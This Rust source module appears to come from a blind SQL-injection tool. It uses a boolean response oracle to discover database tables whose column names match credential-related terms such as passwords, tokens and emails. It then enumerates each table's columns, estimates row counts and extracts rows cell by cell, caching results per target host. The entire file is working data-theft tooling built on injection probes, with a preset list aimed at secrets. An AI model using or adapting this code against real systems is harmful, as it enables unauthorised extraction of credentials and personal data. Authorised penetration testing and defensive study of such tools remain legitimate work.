//! Sensitive data discovery and table dumping.
//!
//! Three phases over the boolean oracle: discover tables whose column names
//! match search terms, enumerate each table's columns in ordinal order, and
//! extract rows cell by cell. Dump mode skips discovery and goes straight
//! at a named table. Everything learned is persisted into the host cache as
//! it arrives, so an interrupted run loses nothing.

pub mod queries;

use crate::cache::CacheStore;
use crate::error::{Error, Result};
use crate::extract::Extractor;
use crate::http::requester::Probe;
use crate::oracle::calibrator::CalibrationResult;
use crate::payloads::{dialect_for, DatabaseKind, Dialect};
use crate::reporting::ReportWriter;
use crate::ui;
use std::collections::{BTreeMap, BTreeSet};

/// Preset search terms for `--find-important-data`.
pub const IMPORTANT_DATA_TERMS: &str =
    "senha,pass,pwd,usuario,user,email,secret,login,token,credential,key";

/// Schema values are short; a tighter length bound saves probes.
const FINDER_LENGTH_BOUND: usize = 256;

const TABLE_OFFSET_LIMIT: usize = 100;
const COLUMN_OFFSET_LIMIT: usize = 50;

/// Row count thresholds tested largest first.
const ROW_COUNT_THRESHOLDS: [i64; 6] = [1_000_000, 100_000, 10_000, 1_000, 100, 10];

/// Row count sentinel for tables with at least a million rows.
pub const ROW_COUNT_1M: i64 = -1;

/// A table discovered through a column-name match.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ColumnMatch {
    pub table: String,
    /// The matching column, when it was resolved. Discovery leaves it empty
    /// to save probes.
    pub column: String,
}

/// A fully dumped table.
#[derive(Debug, Clone)]
pub struct TableData {
    pub name: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
    pub row_count: i64,
}

/// Render a row count, `-1` meaning a million or more.
pub fn format_row_count(count: i64) -> String {
    match count {
        ROW_COUNT_1M => "+1M".to_string(),
        c if c >= 1_000 => format!("+{}K", c / 1_000),
        c => c.to_string(),
    }
}

pub struct Finder<'a, P: Probe> {
    probe: &'a mut P,
    calibration: &'a CalibrationResult,
    kind: DatabaseKind,
    dialect: &'static dyn Dialect,
    store: &'a CacheStore,
    host: String,
    max_len: usize,
}

impl<'a, P: Probe> Finder<'a, P> {
    pub fn new(
        probe: &'a mut P,
        calibration: &'a CalibrationResult,
        kind: DatabaseKind,
        store: &'a CacheStore,
        host: &str,
    ) -> Result<Self> {
        let dialect =
            dialect_for(kind).ok_or_else(|| Error::UnsupportedDatabase(kind.to_string()))?;
        Ok(Self {
            probe,
            calibration,
            kind,
            dialect,
            store,
            host: host.to_string(),
            max_len: crate::extract::DEFAULT_MAX_LEN,
        })
    }

    /// Cap per-cell extraction length. `0` means no cap.
    pub fn set_max_len(&mut self, max_len: usize) {
        self.max_len = max_len;
    }

    async fn extract(&mut self, query: &str) -> Result<String> {
        let mut ex = Extractor::new(&mut *self.probe, self.calibration, self.kind)?;
        ex.set_max_len(self.max_len);
        ex.set_length_bound(FINDER_LENGTH_BOUND);
        ex.set_cache(self.store, &self.host);
        ex.extract_string(query).await
    }

    /// Full workflow: discover tables matching `pattern`, enumerate their
    /// columns, extract up to `row_limit` rows each.
    pub async fn run(
        &mut self,
        pattern: &str,
        table_limit: usize,
        row_limit: usize,
        use_cache: bool,
        report: &mut ReportWriter,
    ) -> Result<()> {
        let cached_tables = self.store.tables(&self.host);

        let (table_names, cached_columns, matched_columns) = if use_cache && !cached_tables.is_empty()
        {
            ui::info(format!("Phase 1: using {} cached tables", cached_tables.len()));
            let names: Vec<String> = cached_tables.keys().cloned().collect();
            let columns: BTreeMap<String, Vec<String>> = cached_tables
                .iter()
                .map(|(name, cache)| (name.clone(), cache.columns.clone()))
                .collect();
            (names, columns, BTreeMap::new())
        } else {
            ui::info("Phase 1: discovering tables...");
            let matches = self.find_tables(pattern, table_limit).await?;
            if matches.is_empty() {
                ui::info("No columns found matching pattern");
                return Ok(());
            }
            let mut names = Vec::new();
            let mut matched: BTreeMap<String, Vec<String>> = BTreeMap::new();
            for m in matches {
                if !m.column.is_empty() {
                    matched.entry(m.table.clone()).or_default().push(m.column);
                }
                names.push(m.table);
            }
            (names, BTreeMap::new(), matched)
        };

        let mut row_counts: BTreeMap<String, i64> = BTreeMap::new();
        for table in &table_names {
            ui::progress(format!("Counting rows in {table}..."));
            let count = match self.row_count(table).await {
                Ok(count) => count,
                Err(e) => {
                    tracing::debug!("could not count rows in {table}: {e}");
                    0
                }
            };
            row_counts.insert(table.clone(), count);
        }
        ui::progress_done();

        ui::success(format!("Found {} tables:", table_names.len()));
        for table in &table_names {
            let count = row_counts.get(table).copied().unwrap_or(0);
            ui::info(format!("  - {table} ({} rows)", format_row_count(count)));
        }

        ui::info("Phase 2: retrieving columns...");
        let mut all_columns: BTreeMap<String, Vec<String>> = BTreeMap::new();
        for table in &table_names {
            if row_counts.get(table) == Some(&0) {
                ui::info(format!("Skipping columns for {table} (0 rows)"));
                continue;
            }

            if let Some(cached) = cached_columns.get(table).filter(|c| !c.is_empty()) {
                match self.column_count(table).await {
                    Ok(live) if live == cached.len() as i64 => {
                        all_columns.insert(table.clone(), cached.clone());
                        ui::info(format!("  - {table}: {} columns (cached)", cached.len()));
                        continue;
                    }
                    Ok(live) => {
                        tracing::debug!(
                            "cache incomplete for {table}: cached {}, actual {live}",
                            cached.len()
                        );
                    }
                    Err(e) => tracing::debug!("column count failed for {table}: {e}"),
                }
            }

            match self.table_columns(table).await {
                Ok(columns) if !columns.is_empty() => {
                    ui::info(format!("  - {table}: {} columns", columns.len()));
                    all_columns.insert(table.clone(), columns);
                }
                // Fall back to whatever columns the discovery phase matched.
                Ok(_) | Err(_) => match matched_columns.get(table) {
                    Some(columns) if !columns.is_empty() => {
                        ui::info(format!("  - {table}: {} matched columns", columns.len()));
                        all_columns.insert(table.clone(), columns.clone());
                    }
                    _ => ui::info(format!("  - {table}: no columns found")),
                },
            }
        }

        ui::info("Phase 3: extracting data...");
        for table in &table_names {
            let Some(columns) = all_columns.get(table).cloned() else {
                ui::info(format!("Skipping {table} (0 rows or columns)"));
                continue;
            };
            let row_count = row_counts.get(table).copied().unwrap_or(0);
            let limit = effective_row_limit(row_count, row_limit);
            if limit == 0 || columns.is_empty() {
                ui::info(format!("Skipping {table} (0 rows or columns)"));
                continue;
            }

            ui::info(format!("Extracting {limit} rows from {table}..."));
            report.begin_table(table, &format_row_count(row_count), &columns);

            let mut rows = Vec::new();
            for row_idx in 0..limit {
                let row = self.extract_row(table, &columns, row_idx).await;
                if row.iter().all(|v| v.is_empty()) {
                    break;
                }
                self.persist_row(table, &columns, &row);
                report.append_row(&row);
                rows.push(row);
            }
            report.end_table();

            print_table_data(&TableData {
                name: table.clone(),
                columns,
                rows,
                row_count,
            });
        }

        if let Some(path) = report.path() {
            ui::info(format!("Output written to: {path}"));
        }

        // Columns were persisted incrementally; rewrite the table map once
        // at the end so validated cached lists stay current too. Rows
        // already in the cache are preserved.
        let mut tables = self.store.tables(&self.host);
        for (name, columns) in &all_columns {
            tables.entry(name.clone()).or_default().columns = columns.clone();
        }
        if let Err(e) = self.store.save_tables(&self.host, tables) {
            tracing::debug!("could not save table cache: {e}");
        }

        Ok(())
    }

    /// Dump a single named table, skipping discovery.
    pub async fn dump_table(
        &mut self,
        table: &str,
        row_limit: usize,
        report: &mut ReportWriter,
    ) -> Result<()> {
        ui::info(format!("Dumping table: {table}"));

        ui::progress(format!("Counting rows in {table}..."));
        let row_count = self.row_count(table).await?;
        ui::progress_done();
        ui::info(format!("Table has {} rows", format_row_count(row_count)));

        if row_count == 0 {
            ui::info("Table is empty, nothing to dump");
            return Ok(());
        }

        let cached_rows = self.store.table_rows(&self.host, table);
        if !cached_rows.is_empty() {
            tracing::debug!("{} rows of {table} cached from earlier runs", cached_rows.len());
        }

        let cached = self.store.table_columns(&self.host, table);
        let mut columns = Vec::new();
        if !cached.is_empty() {
            if let Ok(live) = self.column_count(table).await {
                if live == cached.len() as i64 {
                    columns = cached;
                    ui::info(format!("Using {} cached columns", columns.len()));
                }
            }
        }

        if columns.is_empty() {
            ui::info("Retrieving columns...");
            columns = self.table_columns(table).await?;
            ui::info(format!("Found {} columns: {}", columns.len(), columns.join(", ")));
        }

        let limit = effective_row_limit(row_count, row_limit);
        report.begin_table(table, &format_row_count(row_count), &columns);

        ui::info(format!("Extracting {limit} rows..."));
        let mut rows = Vec::new();
        for row_idx in 0..limit {
            let row = self.extract_row(table, &columns, row_idx).await;
            if row.iter().all(|v| v.is_empty()) {
                break;
            }
            self.persist_row(table, &columns, &row);
            report.append_row(&row);
            rows.push(row);
        }
        report.end_table();

        if let Some(path) = report.path() {
            ui::info(format!("Output written to: {path}"));
        }

        print_table_data(&TableData {
            name: table.to_string(),
            columns,
            rows,
            row_count,
        });

        Ok(())
    }

    /// Phase A: walk each search term through offsets, collecting distinct
    /// table names until the limit is reached or a term runs dry.
    pub async fn find_tables(&mut self, pattern: &str, table_limit: usize) -> Result<Vec<ColumnMatch>> {
        let mut matches = Vec::new();
        let mut seen: BTreeSet<String> = BTreeSet::new();

        let terms: Vec<&str> = pattern
            .split(',')
            .map(str::trim)
            .filter(|t| !t.is_empty())
            .collect();

        for (idx, term) in terms.iter().enumerate() {
            ui::progress(format!("Searching term {}/{}: {term}", idx + 1, terms.len()));

            for offset in 0..TABLE_OFFSET_LIMIT {
                if seen.len() >= table_limit {
                    break;
                }

                let query = queries::table_at_offset(self.kind, term, offset);
                let table = match self.extract(&query).await {
                    Ok(name) => name,
                    Err(e) => {
                        tracing::debug!("table discovery probe failed: {e}");
                        break;
                    }
                };
                if table.is_empty() {
                    break;
                }

                // A term matching several columns of one table yields the
                // same name at multiple offsets; skip duplicates but keep
                // scanning for further tables.
                if !seen.insert(table.to_lowercase()) {
                    continue;
                }

                if let Err(e) = self.store.add_table_column(&self.host, &table, "") {
                    tracing::debug!("could not cache table {table}: {e}");
                }
                ui::progress(format!("Found table: {table}"));
                matches.push(ColumnMatch {
                    table,
                    column: String::new(),
                });
            }
        }
        ui::progress_done();

        if !matches.is_empty() {
            ui::success(format!("Found {} tables", matches.len()));
        }
        Ok(matches)
    }

    /// Phase B: enumerate a table's columns in ordinal order, persisting
    /// each as it is found.
    pub async fn table_columns(&mut self, table: &str) -> Result<Vec<String>> {
        let mut columns = Vec::new();
        ui::progress(format!("Getting columns for {table}..."));

        for offset in 0..COLUMN_OFFSET_LIMIT {
            let query = queries::column_at_offset(self.kind, table, offset);
            let column = match self.extract(&query).await {
                Ok(name) => name,
                Err(e) => {
                    ui::progress_done();
                    return Err(e);
                }
            };
            if column.is_empty() {
                break;
            }
            if let Err(e) = self.store.add_table_column(&self.host, table, &column) {
                tracing::debug!("could not cache column {column}: {e}");
            }
            columns.push(column);
            ui::progress(format!("Getting columns for {table}: {} found", columns.len()));
        }
        ui::progress_done();

        Ok(columns)
    }

    /// Approximate row count via the threshold ladder: the first threshold
    /// that holds becomes the answer, `-1` standing for a million or more.
    /// Counts below ten are resolved exactly.
    pub async fn row_count(&mut self, table: &str) -> Result<i64> {
        let query = queries::row_count_query(table);

        if !self.compare(&query, 0).await? {
            return Ok(0);
        }

        for threshold in ROW_COUNT_THRESHOLDS {
            if self.compare(&query, threshold - 1).await? {
                if threshold == 1_000_000 {
                    return Ok(ROW_COUNT_1M);
                }
                return Ok(threshold);
            }
        }

        // Fewer than ten rows, binary search the exact count.
        let mut low = 1i64;
        let mut high = 9i64;
        while low < high {
            let mid = (low + high + 1) / 2;
            if self.compare(&query, mid - 1).await? {
                low = mid;
            } else {
                high = mid - 1;
            }
        }
        Ok(low)
    }

    /// Exact column count, used to validate cached column lists.
    pub async fn column_count(&mut self, table: &str) -> Result<i64> {
        let query = queries::column_count_query(self.kind, table);

        if !self.compare(&query, 0).await? {
            return Ok(0);
        }

        let mut low = 1i64;
        let mut high = 100i64;
        while low < high {
            let mid = (low + high + 1) / 2;
            if self.compare(&query, mid - 1).await? {
                low = mid;
            } else {
                high = mid - 1;
            }
        }
        Ok(low)
    }

    async fn compare(&mut self, query: &str, n: i64) -> Result<bool> {
        let payload = self.dialect.comparison_probe(query, n);
        let resp = self.probe.send(&payload).await?;
        Ok(self.calibration.is_true(&resp.fingerprint))
    }

    /// Phase C: one row, cell by cell. Cell failures degrade to a partial
    /// or error marker instead of aborting the row.
    async fn extract_row(&mut self, table: &str, columns: &[String], row_idx: usize) -> Vec<String> {
        let mut row = Vec::with_capacity(columns.len());
        for (col_idx, column) in columns.iter().enumerate() {
            if col_idx == 0 {
                ui::progress(format!("Row {}: extracting...", row_idx + 1));
            }

            let query = queries::cell_query(self.kind, table, column, row_idx);
            let value = match self.extract(&query).await {
                Ok(value) => value,
                Err(e) => match e.partial_value() {
                    Some(partial) => format!("{partial} [partial]"),
                    None => format!("[error: {e}]"),
                },
            };
            row.push(value);
            ui::progress(format!("Row {}: | {}", row_idx + 1, row.join(" | ")));
        }
        ui::progress_done();
        row
    }

    fn persist_row(&self, table: &str, columns: &[String], row: &[String]) {
        let map: BTreeMap<String, String> = columns
            .iter()
            .zip(row.iter())
            .map(|(c, v)| (c.clone(), v.clone()))
            .collect();
        if let Err(e) = self.store.add_table_row(&self.host, table, map) {
            tracing::debug!("could not cache row: {e}");
        }
    }
}

fn effective_row_limit(row_count: i64, requested: usize) -> usize {
    if row_count > 0 && (row_count as usize) < requested {
        row_count as usize
    } else {
        requested
    }
}

fn print_table_data(data: &TableData) {
    println!("\nTable: {} ({} rows)", data.name, format_row_count(data.row_count));
    println!("  Columns: {}", data.columns.join(", "));
    println!("  {}", "-".repeat(50));
    for (idx, row) in data.rows.iter().enumerate() {
        println!("  Row {}: | {} |", idx + 1, row.join(" | "));
    }
}
